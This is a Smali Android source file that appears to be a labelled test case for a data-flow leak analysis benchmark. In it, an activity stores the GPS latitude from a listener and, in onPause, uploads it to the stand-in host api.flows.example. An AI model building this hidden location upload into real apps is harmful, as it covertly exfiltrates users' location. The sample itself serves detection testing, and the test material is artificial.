.class public Lorg/apkaudit/flows/location_field/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# Flow case "location_field" (1 leak, network): a location listener registered in onCreate keeps the last
# position in a field of the activity; onPause, which runs after the listener may have been called, uploads it.
#
#   onCreate:  last = "";  locationManager.requestLocationUpdates("gps", 5000, 0, new Tracker(this));
#   Tracker.onLocationChanged(Location l):  activity.last = String.valueOf(l.getLatitude());
#   onPause:   post(last);                                      // <- the leak


# instance fields
.field last:Ljava/lang/String;


# direct methods
.method public constructor <init>()V
    .registers 2

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    const-string v0, ""

    iput-object v0, p0, Lorg/apkaudit/flows/location_field/MainActivity;->last:Ljava/lang/String;

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 8

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    new-instance v5, Lorg/apkaudit/flows/location_field/Tracker;

    invoke-direct {v5, p0}, Lorg/apkaudit/flows/location_field/Tracker;-><init>(Lorg/apkaudit/flows/location_field/MainActivity;)V

    const-string v0, "location"

    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;

    move-result-object v0

    check-cast v0, Landroid/location/LocationManager;

    const-string v1, "gps"

    const-wide/16 v2, 0x1388

    const/4 v4, 0x0

    :try_start_0
    # the listener is registered: its callbacks run after onCreate returns
    invoke-virtual/range {v0 .. v5}, Landroid/location/LocationManager;->requestLocationUpdates(Ljava/lang/String;JFLandroid/location/LocationListener;)V
    :try_end_0
    .catch Ljava/lang/SecurityException; {:try_start_0 .. :try_end_0} :catch_0

    :catch_0
    return-void
.end method

.method protected onPause()V
    .registers 4

    invoke-super {p0}, Landroid/app/Activity;->onPause()V

    :try_start_1
    new-instance v0, Ljava/net/URL;

    const-string v1, "https://api.flows.example/v1/location_field"

    invoke-direct {v0, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V

    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;

    move-result-object v0

    check-cast v0, Ljava/net/HttpURLConnection;

    const/4 v1, 0x1

    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V

    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;

    move-result-object v0

    iget-object v1, p0, Lorg/apkaudit/flows/location_field/MainActivity;->last:Ljava/lang/String;

    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B

    move-result-object v1

    # sink: the last position written to the connection
    invoke-virtual {v0, v1}, Ljava/io/OutputStream;->write([B)V
    :try_end_1
    .catch Ljava/io/IOException; {:try_start_1 .. :try_end_1} :catch_1

    :catch_1
    return-void
.end method
